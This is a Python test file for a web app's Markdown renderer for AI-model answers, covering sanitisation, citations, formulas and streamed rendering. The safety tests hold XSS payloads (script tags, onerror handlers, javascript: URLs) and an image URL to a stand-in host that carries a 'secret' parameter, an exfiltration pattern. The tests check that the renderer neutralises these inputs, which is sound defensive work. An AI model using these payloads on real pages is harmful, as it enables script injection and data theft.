"""A model's answer in Markdown: what may reach the page, what is a citation, and how it grows."""

from __future__ import annotations

import random
import re
from typing import TYPE_CHECKING

import pytest

from webapp.web.markdown import Growing, Link, cited_numbers, dialect, render, strip, without_formulas

if TYPE_CHECKING:
    from collections.abc import Iterator

    from markupsafe import Markup

LINKS = {number: Link(number, f"/documents/d#passage-{number}") for number in (1, 2, 3)}
ANSWER = """The **page fault** is *not* an `error` [1].

- One **two** [1][2]
- Three

| a | b |
|---|--:|
| **1** | 2 |

```python
x = 1
```

See [the book](http://example.org/a) and ![a pic](http://example.org/y.png) ~~gone~~ $a^2$ and \\(b\\).

$$
x=1
$$

## Head

> quote **b**

A line
---

***both*** and __b__. It costs five. [1](http://example.org)

\\[
x
\\]

---

End [9]. 【1】 [1, 2]!"""
FRAGMENTS = [
    *("# ", "## a | b", "\n", "\n\n", "- ", "* ", "1. ", "2) ", "> ", "```", "```py\n", "~~~", "    ", "  ", "\t", "|"),
    *("| a | b |\n", "|---|---|\n", "--- | ---\n", "---", "===", "***", "$$", "$", "\\[", "\\]", "\\(", "\\)", "[1]"),
    *("[9]", "[1, 9]", "[", "]", "(", ")", "![", "](http://x.org)", "**", "*", "_", "~~", "`", "``", "&amp;", "&", "<"),
    *(
        "<http://x.y>",
        "<script>",
        "word",
        "more words",
        "text. ",
        "1",
        "12",
        "!",
        "\\",
        "\r\n",
        "\r",
        "\0",
        "[ ] ",
        "é",
    ),
    *("[x] ", "[1]: http://evil.example\n", "【2】", "[^3]", "a_b", "x\n", "y\n\n"),
]


def citation(number: int) -> str:
    return (
        f'<a class="citation" href="/documents/d#passage-{number}" data-n="{number}"'
        f' aria-label="Source {number}">{number}</a>'
    )


def nasty_texts(count: int, seed: int) -> Iterator[tuple[str, list[int]]]:
    """Texts that nobody writes, each with the places where it is cut."""
    chance = random.Random(seed)  # noqa: S311 - the same texts each time.
    for _ in range(count):
        text = "".join(chance.choice(FRAGMENTS) for _ in range(chance.randint(1, 40)))
        cuts = [cut for cut in range(1, len(text)) if chance.random() < 0.3]
        yield text, [*cuts, len(text)]


# Safety


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<hx-partial hx-target="body">x</hx-partial>',
        '<b hx-get="/x" data-hx-get="/x" style="color:red">x</b>',
        "$\\text{<script>alert(1)</script>}$",
        "$\\text{&lt;script&gt;alert(1)&lt;/script&gt;}$",
        "$$\\text{</math><img src=x onerror=alert(1)>}$$",
        "$\\href{javascript:alert(1)}{x}$ $\\style{position:fixed}{x}$ $\\color{red}{x}$",
        '```"><script>x</script>\ncode\n```',
        "```html\n<script>x</script>\n```",
        "| <script> | b |\n|---|---|\n| <img onerror=x> | 2 |",
        "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
        "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](data:text/html,x) <javascript:alert(1)>",
        '[x](http://example.org "onmouseover=alert(1)")',
        '[x](http://example.org/"onmouseover="alert(1))',
    ],
)
def test_nothing_of_a_models_own_making_becomes_an_element(text: str) -> None:
    tags = re.findall(r"<[^>]*>", render(text, LINKS))
    allowed = r"</?(?:p|pre|code|span|a|math|m\w+|div|table|thead|tbody|tr|th|td)\b"
    assert all(re.match(allowed, tag) for tag in tags)
    assert not re.search(r"\bon\w+=|style=|script:|data:|hx-|<script|<img", "".join(tags))


def test_a_picture_from_outside_is_replaced_by_its_words() -> None:
    assert render("![a *cat*](https://evil.example/?d=secret)") == "<p>a cat</p>\n"


def test_links_lead_outside_only_over_the_web_and_mail() -> None:
    assert render("[a](https://example.org)") == (
        '<p><a href="https://example.org" rel="nofollow noopener ugc">a</a></p>\n'
    )
    assert 'href="mailto:ada@example.org"' in render("<ada@example.org>")
    assert render("[a](/settings) [b](//evil.example) [c](ftp://x)") == "<p>a b c</p>\n"


# What it looks like


def test_headings_stand_under_the_question() -> None:
    assert render("# a\n\n##### b") == "<h3>a</h3>\n<h6>b</h6>\n"


def test_tables_and_code_can_be_scrolled_with_the_keyboard() -> None:
    assert render("|a|\n|-:|\n|1|").startswith(
        '<div class="scroll" tabindex="0" role="group" aria-label="Table"><table>\n'
    )
    assert render("```Python\nif x:\n```") == (
        '<pre tabindex="0" class="language-python"><code><span class="k">if</span> '
        '<span class="n">x</span><span class="p">:</span>\n</code></pre>\n'
    )


@pytest.mark.parametrize("text", ["$a$", "\\(a\\)"])
def test_formulas_are_set_within_a_line(text: str) -> None:
    assert render(text) == '<p><math display="inline"><mrow><mi>a</mi></mrow></math></p>\n'


@pytest.mark.parametrize("text", ["$$\na<b\n$$", "\\[\na<b\n\\]", "\\[ a<b \\]"])
def test_formulas_are_set_on_their_own(text: str) -> None:
    math = '<math tabindex="0" display="block"><mrow><mi>a</mi><mo>&lt;</mo><mi>b</mi></mrow></math>'
    assert render(text) == f'<div class="formula">{math}</div>\n'


def test_a_formula_that_cannot_be_set_is_shown_as_code() -> None:
    assert render("$\\frac{$") == "<p><code>\\frac{</code></p>\n"


def test_prices_are_not_formulas() -> None:
    assert render("$5 and $6") == "<p>$5 and $6</p>\n"


def test_tasks_say_whether_they_are_done() -> None:
    html = render("- [x] a\n- [ ] b")
    assert '<input type="checkbox" disabled="" checked="" aria-label="Done"> a' in html
    assert '<input type="checkbox" disabled="" aria-label="To do"> b' in html


# Citations


@pytest.mark.parametrize(
    ("text", "numbers"),
    [
        ("a.[1]", [1]),
        ("a.[1][2]", [1, 2]),
        ("a.[1, 2]", [1, 2]),
        ("a.[1-3]", [1, 2, 3]),
        ("a.[2–9]", [2, 3]),
        ("a.【1】", [1]),
        ("a.【2†source】", [2]),
        ("a.[^1]", [1]),
        ("a.[1](http://evil.example/a_(b))", [1]),
        ("a.[[1]](http://evil.example)", [1]),
        ("a. [9]", []),
        ("a. [9](http://evil.example)", []),
        ("a. [8, 9] [7]", []),
        ("a.[9, 1]", [1]),
    ],
)
def test_every_way_of_citing(text: str, numbers: list[int]) -> None:
    assert render(text, LINKS) == f"<p>a.{''.join(map(citation, numbers))}</p>\n"
    assert cited_numbers(text, LINKS) == numbers


def test_a_definition_cannot_take_a_citation_over() -> None:
    html = render("a [1]\n\n[1]: http://evil.example", LINKS)
    assert html.startswith(f"<p>a {citation(1)}</p>\n")
    assert "evil.example" not in "".join(re.findall(r'href="[^"]*"', html))


@pytest.mark.parametrize("text", ["`[1]`", "```\n[1]\n```", "    [1]", "$x[1]$", "\\[1]", "[2024]", "[0, 1]", "[a](b)"])
def test_code_formulas_and_other_brackets_are_no_citations(text: str) -> None:
    assert "citation" not in render(text, LINKS)
    assert cited_numbers(text, LINKS) == []
    assert strip(text, ()) == text


def test_an_invented_number_leaves_no_trace() -> None:
    assert render("It is so [9], and so [1, 9].\n\n[9]", LINKS) == f"<p>It is so, and so {citation(1)}.</p>\n"


@pytest.mark.parametrize(
    ("text", "stripped"),
    [
        ("It is so [9], and [1].", "It is so, and [1]."),
        ("a [1, 9] b [8-9](http://x.org)", "a [1] b"),
        ("`a[9]` [9] b", "`a[9]` b"),
        ("- [9] one\n- two", "- one\n- two"),
        ("one\n[9]\ntwo", "one\ntwo"),
        ("[9]~~~\nso [1]", "[9]~~~\nso [1]"),
    ],
)
def test_invented_numbers_are_taken_out_of_the_text(text: str, stripped: str) -> None:
    assert strip(text, LINKS) == stripped


def test_what_is_shown_counted_and_stored_agrees() -> None:
    for text, _ in nasty_texts(300, seed=7):
        shown = [int(number) for number in re.findall(r'data-n="(\d+)"', render(text, LINKS))]
        assert cited_numbers(text, LINKS) == list(dict.fromkeys(shown)), text
        assert cited_numbers(strip(text, LINKS), LINKS) == cited_numbers(text, LINKS), text


# Growing


def test_an_answer_that_grew_equals_the_answer_rendered_at_once() -> None:
    texts = [*nasty_texts(400, seed=1), (ANSWER, list(range(len(ANSWER) + 1)))]
    for text, cuts in texts:
        growing = Growing(LINKS)
        before: list[Markup] = []
        for cut in cuts:
            growing.update(text[:cut])
            assert growing.finished[: len(before)] == before, text
            before = list(growing.finished)
        growing.finish()
        assert "".join(growing.finished) == render(text, LINKS), text


def test_no_raw_sign_appears_to_vanish_again() -> None:
    growing = Growing(LINKS)
    for cut in range(1, len(ANSWER) + 1):
        growing.update(ANSWER[:cut])
        seen = re.sub(r"<[^>]*>", "", growing.growing)
        assert not re.search(r"[*`~\[\]|$\\#_]|http|^[->\d]|---|&amp;", seen), ANSWER[:cut][-20:]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("so **bo", "<p>so <strong>bo</strong></p>\n"),
        ("so **", "<p>so</p>\n"),
        ("so **a *b", "<p>so <strong>a <em>b</em></strong></p>\n"),
        ("so **a `b", "<p>so <strong>a <code>b</code></strong></p>\n"),
        ("see [te", "<p>see</p>\n"),
        ("see [text](htt", "<p>see</p>\n"),
        ("a < b & c", "<p>a &lt; b &amp; c</p>\n"),
        ("5 * 3 * 2", "<p>5 * 3 * 2</p>\n"),
        ("a [" + "b " * 100, "<p>a [" + "b " * 99 + "b</p>\n"),
        ("- a\n-", "<ul>\n<li>a</li>\n</ul>\n"),
        ("a\n--", "<p>a</p>\n"),
        ("``", ""),
        ("| a | b |\n|--", ""),
        ("```py", ""),
        ("```py\nif", '<pre tabindex="0" class="language-py"><code>if</code></pre>\n'),
    ],
)
def test_what_is_seen_of_an_unfinished_text(text: str, shown: str) -> None:
    growing = Growing(LINKS)
    growing.update(text)
    assert growing.finished == []
    assert growing.growing == shown


def test_a_block_is_finished_as_soon_as_nothing_can_change_it() -> None:
    growing = Growing(LINKS)
    steps = ["One.", "\n\n", "- a", "\n- b\n\n", "Two", ".\n", "Three", "\n\n"]
    counts = []
    for end in range(1, len(steps) + 1):
        growing.update("".join(steps[:end]))
        counts.append(len(growing.finished))
    assert counts == [0, 1, 1, 1, 2, 2, 2, 3]


def test_an_update_parses_the_last_block_alone(monkeypatch: pytest.MonkeyPatch) -> None:
    parsed: list[int] = []
    blocks = dialect.blocks

    def counting(text: str) -> list[dialect.Block]:
        parsed.append(len(text))
        return blocks(text)

    monkeypatch.setattr(dialect, "blocks", counting)
    growing = Growing(LINKS)
    text = "A *paragraph* that has some words in it.\n\n" * 50
    for end in range(0, len(text), 10):
        growing.update(text[:end])
        growing.update(text[:end])
    assert max(parsed) < 60
    parsed.clear()
    plain = Growing(LINKS)
    for end in range(200):
        plain.update(("nothing but words " * 20)[:end])
    assert parsed == []
    growing = Growing(LINKS)
    text = "Some **bold** words [1] and many plain ones after them, one by one."
    for end in range(len(text) + 1):
        growing.update(text[:end])
    assert len(parsed) < 25
    assert growing.growing == render(text, LINKS)


def test_brackets_without_end_cost_no_more_than_their_number() -> None:
    growing = Growing(LINKS)
    growing.update("[" * 3000)
    assert growing.growing.startswith("<p>[[[")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (r"At 2 s it is 10.0 + 0.8 \cdot 2.0 = 11.6 per cent, too much.", "At 2 s it is … per cent, too much."),
        ("It is\n\nu(t) = K_p\\, e(t) + K_i \\int_0^{t} e(\\tau)\\,d\\tau\n\nand helps.", "It is\n\n…\n\nand helps."),
        (r"with \text{where the error} = 3 and R_1R_2, x_{ij}", "with … and …"),
        ("It ends in \\frac{a b\n\nNext it goes on.", "It ends in …\n\nNext it goes on."),
        (r"In C:\Users\ben\x lies p_value, and 3 + 4 = 7.", r"In C:\Users\ben\x lies p_value, and 3 + 4 = 7."),
        ("", ""),
    ],
)
def test_formulas_are_left_out_of_plain_text(text: str, shown: str) -> None:
    assert without_formulas(text) == shown
